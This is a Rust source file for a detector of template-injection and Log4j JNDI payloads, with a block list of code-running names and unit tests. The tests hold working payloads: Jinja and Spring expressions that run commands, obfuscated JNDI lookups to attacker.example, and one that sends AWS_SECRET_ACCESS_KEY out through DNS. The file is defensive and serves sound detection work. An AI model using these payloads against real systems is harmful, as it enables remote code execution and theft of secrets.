//! Template and expression-language injection by syntax: each template expression in the value
//! (`{{ }}`, `{% %}`, `${ }`, `#{ }`, `*{ }`, `<% %>`, Freemarker and Velocity directives) is
//! looked at for what only an attack needs there: object internals (`__class__`), the
//! engine's globals (`config`, `request`, `cycler`), a type or class lookup (`T(`,
//! `getClass`, `forName`), arithmetic on literals (the `{{7*7}}` probe) or a call that runs
//! code. Placeholders (`{{ user.name }}`, `${AWS::Region}`) pass. Log4j lookups are resolved
//! first (`${${::-j}ndi:` is `${jndi:`), as Log4j itself resolves them.

use super::{contains_short, Allowance, Found, NameLengths, Strictness};

pub(super) const DANGEROUS_NAMES: &[&str] = &[
    "config",
    "request",
    "self",
    "cycler",
    "lipsum",
    "joiner",
    "namespace",
    "url_for",
    "get_flashed_messages",
    // Above: Jinja's globals (see `JINJA_GLOBALS`); below: names that run code in any engine.
    "getclass",
    "forname",
    "getruntime",
    "processbuilder",
    "exec",
    "system",
    "popen",
    "import",
    "eval",
    "constructor",
    "invoke",
    "subprocess",
    "child_process",
    "require",
    "_self",
    "getenv",
    "attr",
    "mro",
    "subclasses",
    "globals",
    "builtins",
    "freemarker",
    "execute",
    "classloader",
    "getmethod",
    "newinstance",
    "scriptengine",
    "ognl",
    "memberaccess",
    "defineclass",
    "jndi",
    "objectconstructor",
];

/// The first names of `DANGEROUS_NAMES`: objects only Jinja-like engines (`{{ }}`, `{% %}`)
/// hand a template. In `${ }` (a JavaScript template literal, EL) `config.awsAccountId` is an
/// application's own variable.
const JINJA_GLOBALS: usize = 9;

/// Longest of `DANGEROUS_NAMES`.
const LONGEST_NAME: usize = 20;

/// For each first byte of `DANGEROUS_NAMES` (a letter, or `_` last), the lengths they have:
/// most names in an expression are passed over with one lookup.
const NAME_LENGTHS: NameLengths = {
    let mut t = NameLengths::NONE;
    let mut k = 0;
    while k < DANGEROUS_NAMES.len() {
        t = t.with(DANGEROUS_NAMES[k].as_bytes());
        k += 1;
    }
    t
};

/// What in a template expression only an attack needs. Read in place, in any case: a value
/// can hold an expression every few bytes (`${::-j}` over and over), and copying each to
/// lower case cost more than reading it.
/// What the engine that `opener` belongs to runs.
#[derive(Debug, Clone, Copy, PartialEq, Default)]
struct Engine {
    /// Backticks run a shell command (ERB's `<% %>`, Ruby's `#{ }`); in a JavaScript template
    /// literal's `${ }` they are a nested literal.
    backticks_run: bool,
    /// Jinja's globals (`config`, `request`, `cycler`) are in scope.
    jinja: bool,
}

impl Engine {
    fn of(opener: &str) -> Engine {
        Engine {
            backticks_run: matches!(opener, "<%" | "#{"),
            jinja: matches!(opener, "{{" | "{%"),
        }
    }
}

/// Whether the name `b[start..end]` is a Python or JavaScript internal (`__class__`,
/// `__proto__`) or a piece of one split across string literals (`'__cla'+'ss__'`); a name
/// with `__` inside (`Config__TableName`) or only before it (`__dirname`) is not.
fn is_internal(b: &[u8], start: usize, end: usize) -> bool {
    let name = &b[start..end];
    name.ends_with(b"__") || name.starts_with(b"__") && matches!(b.get(end), Some(b'\'' | b'"'))
}

fn dangerous(expr: &str, engine: Engine) -> Option<&'static str> {
    let b = expr.as_bytes();
    // A plain scan: expressions are short, and a `memmem` search costs a searcher each.
    if b.windows(2).any(|w| w == b"__") {
        let mut start = 0;
        for (k, &c) in b.iter().chain(std::iter::once(&b' ')).enumerate() {
            if !(c.is_ascii_alphanumeric() || c == b'_') {
                if k > start + 1 && is_internal(b, start, k) {
                    return Some("object internals in a template expression");
                }
                start = k + 1;
            }
        }
    }
    if engine.backticks_run && b.contains(&b'`') {
        return Some("a shell command in a template expression");
    }
    let names = b.split(|&c| !(c.is_ascii_alphanumeric() || c == b'_'));
    let mut lower = [0u8; LONGEST_NAME];
    for id in names.filter(|id| !id.is_empty() && id.len() <= LONGEST_NAME) {
        // `self:` in `${self:provider.stage}` names where a Serverless Framework or EL
        // variable comes from; no engine reaches an object written that way.
        let end = id.as_ptr() as usize - b.as_ptr() as usize + id.len();
        if is_source_prefix(b, end) {
            continue;
        }
        if !NAME_LENGTHS.may_hold(id) {
            continue;
        }
        let lower = &mut lower[..id.len()];
        lower.copy_from_slice(id);
        lower.make_ascii_lowercase();
        let known = DANGEROUS_NAMES
            .iter()
            .position(|n| n.as_bytes() == &*lower)
            .is_some_and(|k| engine.jinja || k >= JINJA_GLOBALS);
        if known {
            return Some("engine globals or code execution in a template expression");
        }
    }
    let t = expr.trim_start_matches(['=', '-', '#', ' ']).as_bytes();
    let starts = |p: &[u8]| t.get(..p.len()).is_some_and(|h| h.eq_ignore_ascii_case(p));
    let holds = |p: &[u8]| b.windows(p.len()).any(|w| w.eq_ignore_ascii_case(p));
    // A Java class by its full name (`$class.inspect("java.lang.Runtime")`) is a type lookup.
    if starts(b"t(")
        || starts(b"t (")
        || holds(b"?new(")
        || holds(b".class")
        || holds(b"java.lang.")
    {
        return Some("a class lookup in an expression");
    }
    // The probe needs an operator: most expressions are read no further.
    if b.iter().any(|c| matches!(c, b'*' | b'+' | b'/')) && arithmetic_probe(expr) {
        return Some("arithmetic on literals (a template-injection probe)");
    }
    None
}

/// Whether the name ending at `end` is followed by a single `:` (`self:`, `fn:`), not `::`.
fn is_source_prefix(b: &[u8], end: usize) -> bool {
    b.get(end) == Some(&b':') && b.get(end + 1) != Some(&b':')
}

/// `7*7`, `7 * '7'`, `191*7`: two literals and an operator, the canonical probe.
fn arithmetic_probe(expr: &str) -> bool {
    let t: String = expr
        .chars()
        .filter(|c| {
            !c.is_whitespace() && !matches!(c, '\'' | '"' | '-' | '=' | '{' | '}' | '(' | ')')
        })
        .collect();
    let Some(op) = t.find(['*', '+', '/']) else {
        return false;
    };
    let (a, b) = (&t[..op], &t[op + 1..]);
    !a.is_empty()
        && !b.is_empty()
        && a.bytes().all(|c| c.is_ascii_digit())
        && b.bytes().all(|c| c.is_ascii_digit())
}

/// Log4j lookups resolved to a fixed point: `${lower:J}`, `${::-j}`, `${env:X:-j}` become `j`.
/// The first `${` (a `str::find` would build a searcher per call).
fn dollar_brace(b: &[u8]) -> Option<usize> {
    let mut from = 0;
    // A plain loop rather than memchr: `$` can be every other byte, and each memchr call
    // costs more than the few bytes it skips.
    while let Some(p) = b[from..].iter().position(|&c| c == b'$') {
        let at = from + p;
        if b.get(at + 1) == Some(&b'{') {
            return Some(at);
        }
        from = at + 1;
    }
    None
}

fn resolve_lookups(value: &str) -> String {
    let mut current = value.to_string();
    for _ in 0..8 {
        let mut out = String::with_capacity(current.len());
        let mut changed = false;
        let mut rest = current.as_str();
        while let Some(open) = dollar_brace(rest.as_bytes()) {
            let inner_start = open + 2;
            let b = rest.as_bytes();
            // The first `}` or `${` after the opener, found in one pass: a nested opener
            // restarts from there, so the round stays linear.
            let mut j = inner_start;
            let stop = loop {
                match b.get(j) {
                    None => break None,
                    Some(b'}') => break Some((j, true)),
                    Some(b'$') if b.get(j + 1) == Some(&b'{') => break Some((j, false)),
                    _ => j += 1,
                }
            };
            match stop {
                Some((c, true)) => {
                    // Written straight into `out`, with no searcher built or copy made per
                    // lookup: a value can be `${::-j}` from end to end.
                    let inner = &rest[inner_start..c];
                    out.push_str(&rest[..open]);
                    let ib = inner.as_bytes();
                    let default = (1..ib.len())
                        .find(|&k| ib[k] == b'-' && ib[k - 1] == b':')
                        .map(|k| &inner[k + 1..]);
                    let case = || {
                        inner
                            .strip_prefix("lower:")
                            .or_else(|| inner.strip_prefix("upper:"))
                    };
                    if let Some(d) = default {
                        out.push_str(d);
                        changed = true;
                    } else if let Some(word) = case() {
                        out.extend(word.chars().map(|ch| ch.to_ascii_lowercase()));
                        changed = true;
                    } else {
                        out.push_str(&rest[open..=c]);
                    }
                    rest = &rest[c + 1..];
                }
                Some((n, false)) => {
                    out.push_str(&rest[..n]);
                    rest = &rest[n..];
                }
                None => break,
            }
        }
        out.push_str(rest);
        if !changed {
            return out;
        }
        current = out;
    }
    current
}

const OPENERS: &[(&str, &str)] = &[
    ("{{", "}}"),
    ("{%", "%}"),
    ("${", "}"),
    ("#{", "}"),
    ("*{", "}"),
    ("@{", "}"),
    ("<%", "%>"),
    ("<#", ">"),
    ("#set(", ")"),
    ("[[", "]]"),
];

/// The distinct second bytes of `OPENERS`, each a bit of `PAIR_FIRST` and `PAIR_SECOND`.
const SECOND_BYTES: [u8; 8] = {
    let mut t = [0u8; 8];
    let mut len = 0;
    let mut n = 0;
    while n < OPENERS.len() {
        let second = OPENERS[n].0.as_bytes()[1];
        let mut k = 0;
        while k < len && t[k] != second {
            k += 1;
        }
        if k == len {
            t[len] = second;
            len += 1;
        }
        n += 1;
    }
    t
};

/// The bit of `SECOND_BYTES` that `byte` has (0 for none).
const fn second_bit(byte: u8) -> u8 {
    let mut k = 0;
    while k < SECOND_BYTES.len() {
        if SECOND_BYTES[k] == byte && byte != 0 {
            return 1 << k;
        }
        k += 1;
    }
    0
}

/// For each byte, the second bytes an opener that starts with it has; with `PAIR_SECOND`, a
/// byte and the next tell whether an opener can start there. Text dense in `{`, `$`, `<` or
/// `#` (most of them opening nothing) is then passed over without stopping at each.
const PAIR_FIRST: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut n = 0;
    while n < OPENERS.len() {
        let o = OPENERS[n].0.as_bytes();
        t[o[0] as usize] |= second_bit(o[1]);
        n += 1;
    }
    t
};

/// Each byte's bit among `SECOND_BYTES`.
const PAIR_SECOND: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut c = 0;
    while c < 256 {
        t[c] = second_bit(c as u8);
        c += 1;
    }
    t
};

/// No byte: what `detect_within` compares bytes with when no expression is open.
const NO_CLOSER: u16 = 256;

/// The opener (and its closer) that starts at `b[i]`, if any: most bytes open nothing, and
/// the first byte picks the few openers worth comparing.
fn opener_at(b: &[u8], i: usize) -> Option<(&'static str, &'static str)> {
    let next = b.get(i + 1).copied();
    let pair = match (b[i], next) {
        (b'{', Some(b'{')) => ("{{", "}}"),
        (b'{', Some(b'%')) => ("{%", "%}"),
        (b'$', Some(b'{')) => ("${", "}"),
        (b'#', Some(b'{')) => ("#{", "}"),
        (b'*', Some(b'{')) => ("*{", "}"),
        (b'@', Some(b'{')) => ("@{", "}"),
        (b'<', Some(b'%')) => ("<%", "%>"),
        (b'<', Some(b'#')) => ("<#", ">"),
        (b'[', Some(b'[')) => ("[[", "]]"),
        (b'#', Some(b's')) if b[i..].starts_with(b"#set(") => ("#set(", ")"),
        _ => return None,
    };
    debug_assert!(OPENERS.contains(&pair));
    Some(pair)
}

/// What is dangerous in the expression `value[start..end]` opened at `at`. Kept out of
/// `detect`'s loop, which a value can make open an expression every two bytes and close none:
/// the loop stays small.
#[inline(never)]
fn judge_expression(value: &str, at: usize, start: usize, end: usize) -> Option<&'static str> {
    let expr = &value[start..end];
    if expr.len() > 2048 {
        return None;
    }
    let engine = opener_at(value.as_bytes(), at).map_or(Engine::default(), |(o, _)| Engine::of(o));
    dangerous(expr, engine)
}

pub fn detect(value: &str, strictness: Strictness) -> Option<Found> {
    detect_within(value, strictness, &mut Allowance::unlimited())
}

/// `detect`, judging no more expressions than `allowance` has.
pub fn detect_within(
    value: &str,
    _strictness: Strictness,
    allowance: &mut Allowance,
) -> Option<Found> {
    // A byte search: a `char` pattern decodes every character of the value.
    let b = value.as_bytes();
    if memchr::memchr3(b'{', b'%', b'#', b).is_none() && memchr::memchr(b'[', b).is_none() {
        return None;
    }
    let found = |at: usize, what: &'static str| {
        Found::new(
            "template-expression",
            "code-injection",
            what,
            value,
            at.saturating_sub(8),
        )
    };
    // Every lookup has a `:` (`${jndi:`, `${env:X}`); only `:-` defaults and `lower:` or
    // `upper:` resolve to something else.
    // The `:` first: one byte, looked for faster than a pair, and most values have none.
    if memchr::memchr(b':', b).is_some() && contains_short(value, "${") {
        let mut resolved = if contains_short(value, ":-")
            || contains_short(value, "lower:")
            || contains_short(value, "upper:")
        {
            resolve_lookups(value)
        } else {
            value.to_string()
        };
        resolved.make_ascii_lowercase();
        let rb = resolved.as_bytes();
        let mut from = 0;
        while let Some(p) = dollar_brace(&rb[from..]) {
            let at = from + p;
            from = at + 2;
            let rest = &resolved[at + 2..];
            if !rest.as_bytes().first().is_some_and(u8::is_ascii_alphabetic) {
                continue;
            }
            // Only JNDI reaches the network. The other lookups (`${env:X}`, `${sys:X}`) write
            // a secret into the application's own log and send it nowhere unless nested in a
            // JNDI address, which this finds; alone they are what Serverless Framework
            // configuration (`${env:BUCKET}`) and shell defaults look like.
            if rest.starts_with("jndi:") {
                return Some(Found::new(
                    "log4j-lookup",
                    "code-injection",
                    "a Log4j lookup (JNDI or environment disclosure)",
                    &resolved,
                    at,
                ));
            }
        }
    }
    // Innermost expressions only: each closer pairs with the nearest opener before it, so
    // the work stays linear however the delimiters nest.
    let mut open: Option<(usize, usize, &str)> = None;
    let mut i = 0;
    while i < b.len() {
        // Bytes that neither open an expression nor close the open one, in a tight loop
        // (a branch per byte on what it opens costs a misprediction on varied text). An
        // opener is told by its first two bytes; the last byte can only close.
        let closes = open.map_or(NO_CLOSER, |(_, _, closer)| u16::from(closer.as_bytes()[0]));
        while i + 1 < b.len()
            && PAIR_FIRST[b[i] as usize] & PAIR_SECOND[b[i + 1] as usize] == 0
            && u16::from(b[i]) != closes
        {
            i += 1;
        }
        let Some(&c) = b.get(i) else {
            break;
        };
        if let Some((o, closer)) = opener_at(b, i) {
            open = Some((i, i + o.len(), closer));
            i += o.len();
            continue;
        }
        if let Some((at, start, closer)) = open {
            if closer.as_bytes()[0] == c && b[i..].starts_with(closer.as_bytes()) {
                if !allowance.take() {
                    return None;
                }
                if let Some(what) = judge_expression(value, at, start, i) {
                    return Some(found(at, what));
                }
                open = None;
                i += closer.len();
                continue;
            }
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `resolve_lookups` as it was, a searcher and a copy per lookup: the reference.
    fn resolve_lookups_copying(value: &str) -> String {
        let mut current = value.to_string();
        for _ in 0..8 {
            let mut out = String::with_capacity(current.len());
            let mut changed = false;
            let mut rest = current.as_str();
            while let Some(open) = dollar_brace(rest.as_bytes()) {
                let inner_start = open + 2;
                let b = rest.as_bytes();
                let mut j = inner_start;
                let stop = loop {
                    match b.get(j) {
                        None => break None,
                        Some(b'}') => break Some((j, true)),
                        Some(b'$') if b.get(j + 1) == Some(&b'{') => break Some((j, false)),
                        _ => j += 1,
                    }
                };
                match stop {
                    Some((c, true)) => {
                        let inner = &rest[inner_start..c];
                        let resolved = if let Some((_, default)) = inner.split_once(":-") {
                            Some(default.to_string())
                        } else {
                            inner
                                .strip_prefix("lower:")
                                .or_else(|| inner.strip_prefix("upper:"))
                                .map(str::to_ascii_lowercase)
                        };
                        out.push_str(&rest[..open]);
                        match resolved {
                            Some(r) => {
                                out.push_str(&r);
                                changed = true;
                            }
                            None => out.push_str(&rest[open..=c]),
                        }
                        rest = &rest[c + 1..];
                    }
                    Some((n, false)) => {
                        out.push_str(&rest[..n]);
                        rest = &rest[n..];
                    }
                    None => break,
                }
            }
            out.push_str(rest);
            if !changed {
                return out;
            }
            current = out;
        }
        current
    }

    #[test]
    fn lookups_resolve_in_place_as_with_a_copy_each() {
        const PIECES: &[&str] = &[
            "${", "}", ":-", ":", "-", "lower:", "upper:", "LOWER:", "J", "ndi", "x", "$", "{",
            "é", "::-", "jndi:", "É",
        ];
        let changed = crate::detect::agrees_with_reference(
            PIECES,
            23,
            30_000,
            59,
            resolve_lookups,
            resolve_lookups_copying,
            |r| !r.is_empty(),
        );
        assert!(changed > 10_000, "{changed}");
    }

    /// Each name of `s` (letters, digits and `_`; empty between two other characters) with
    /// the text after it.
    fn names_and_what_follows(s: &str) -> Vec<(&str, &str)> {
        let mut out = Vec::new();
        let mut rest = s;
        while !rest.is_empty() {
            let name_len = rest
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(rest.len());
            let (id, after) = rest.split_at(name_len);
            out.push((id, after));
            let skip = after.chars().next().map_or(0, char::len_utf8);
            rest = &after[skip..];
        }
        out
    }

    /// `dangerous` as it was, on a lower-cased copy: the reference.
    fn dangerous_on_a_copy(expr: &str, engine: Engine) -> Option<&'static str> {
        let lower = expr.to_ascii_lowercase();
        for (id, after) in names_and_what_follows(&lower) {
            let split_literal = after.starts_with(['\'', '"']);
            if id.len() > 1 && (id.ends_with("__") || id.starts_with("__") && split_literal) {
                return Some("object internals in a template expression");
            }
        }
        if engine.backticks_run && lower.contains('`') {
            return Some("a shell command in a template expression");
        }
        for (id, after) in names_and_what_follows(&lower) {
            let prefix = after.starts_with(':') && !after.starts_with("::");
            let known = DANGEROUS_NAMES
                .iter()
                .position(|n| *n == id)
                .is_some_and(|k| engine.jinja || k >= JINJA_GLOBALS);
            if known && !prefix {
                return Some("engine globals or code execution in a template expression");
            }
        }
        let t = lower.trim_start_matches(['=', '-', '#', ' ']);
        if t.starts_with("t(")
            || t.starts_with("t (")
            || lower.contains("?new(")
            || lower.contains(".class")
            || lower.contains("java.lang.")
        {
            return Some("a class lookup in an expression");
        }
        if arithmetic_probe(&lower) {
            return Some("arithmetic on literals (a template-injection probe)");
        }
        None
    }

    #[test]
    fn expressions_are_judged_in_place_as_on_a_lower_case_copy() {
        assert!(DANGEROUS_NAMES.iter().all(|n| n.len() <= LONGEST_NAME));
        const PIECES: &[&str] = &[
            "Config",
            "REQUEST",
            "self",
            "_",
            "__",
            "`",
            "T(",
            "t (",
            "?New(",
            ".Class",
            "7",
            "*",
            "+",
            "/",
            "'",
            " ",
            "=",
            "-",
            "#",
            "{",
            "(",
            ")",
            "x",
            "é",
            "ſ",
            "K",
            "getClass",
            "objectconstructor",
            "a.b",
            "\u{3000}",
            ":",
            "::",
            "__class__",
            "java.Lang.",
            "__dirname",
            "a__b",
            "\"",
        ];
        for opener in ["{{", "${", "<%"] {
            let engine = Engine::of(opener);
            let hits = crate::detect::agrees_with_reference(
                PIECES,
                17,
                30_000,
                60,
                |e| dangerous(e, engine),
                |e| dangerous_on_a_copy(e, engine),
                Option::is_some,
            );
            assert!(hits > 5_000, "{hits}");
        }
    }

    fn hit(v: &str) -> bool {
        detect(v, Strictness::Generic).is_some()
    }

    #[test]
    fn injections() {
        for v in [
            "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "<%= 7 * 7 %>",
            "<%= `id` %>",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${jndi:ldap://attacker.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
            "${${lower:J}ndi:rmi://x/a}",
            "${${env:NOPE:-j}ndi:dns://x}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x = $class.inspect(\"java.lang.Runtime\"))",
            "{{ request.application.__globals__ }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{% import os %}{{ os.system('id') }}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
            "#{`id`}",
            "{{ ''['__cla'+'ss__'] }}",
            "{{ ''['__class'+'__'] }}",
            "{{ config.items() }}",
            "${self.module.cache.util.os.system('id')}",
            "${x.__proto__.polluted}",
            "{{#with \"s\" as |string|}}{{#with string.constructor}}{{/with}}{{/with}}",
        ] {
            assert!(hit(v), "missed: {v}");
        }
    }

    #[test]
    fn placeholders() {
        for v in [
            "{{ user.name }}",
            "Hello {{name}}, welcome!",
            "${AWS::Region}",
            "{{ price | currency }}",
            "Dear ${firstName} ${lastName}",
            "#{orderId}",
            "{% if user %}Hi{% endif %}",
            "Use {{ }} for placeholders",
            "Total: ${total}",
            "See [[Main Page]]",
            "{{ 'Hello' }}",
            "{{ items.length }} items",
            // Serverless Framework variables and a JavaScript template literal.
            "TABLE: ${self:service}-${opt:stage, self:provider.stage}",
            "CLIENT_ID: ${file(./config/${self:provider.stage}.yml):CLIENT_ID}",
            "deploymentBucket: ${env:BUCKET}",
            "className={`admin ${visible ? `shown` : ``}`}",
            "arn:aws:sns:us-east-1:${config.awsAccountId}:analyzeNote",
            // `Runtime` reaches code only through `getRuntime()`, which is listed.
            "runtimes/${runtime.agentRuntimeId}/endpoints/DEFAULT",
            "handler: `${handlerPath(__dirname)}/handler.main`",
            "Resource: table/${self:provider.environment.DynamoDbConfiguration__TableName}",
        ] {
            assert!(!hit(v), "false positive: {v}");
        }
    }

    #[test]
    fn every_opener_is_recognised() {
        for (o, c) in OPENERS {
            let text = format!("{o}x");
            assert_eq!(opener_at(text.as_bytes(), 0), Some((*o, *c)), "{o}");
        }
        assert_eq!(opener_at(b"{x", 0), None);
    }

    #[test]
    fn every_pair_that_opens_passes_the_pair_tables() {
        let mut openers = 0;
        for first in 0..=255u8 {
            for second in 0..=255u8 {
                let text = [first, second, b'e', b't', b'('];
                let passes = PAIR_FIRST[first as usize] & PAIR_SECOND[second as usize] != 0;
                if opener_at(&text, 0).is_some() {
                    openers += 1;
                    assert!(passes, "{:?}", &text[..2]);
                }
            }
        }
        assert_eq!(openers, OPENERS.len());
    }

    #[test]
    fn nested_delimiters_stay_linear() {
        let v = "{{".repeat(50_000) + &"}}".repeat(50_000);
        assert!(!hit(&v));
        let v = "${".repeat(50_000);
        assert!(!hit(&v));
    }
}
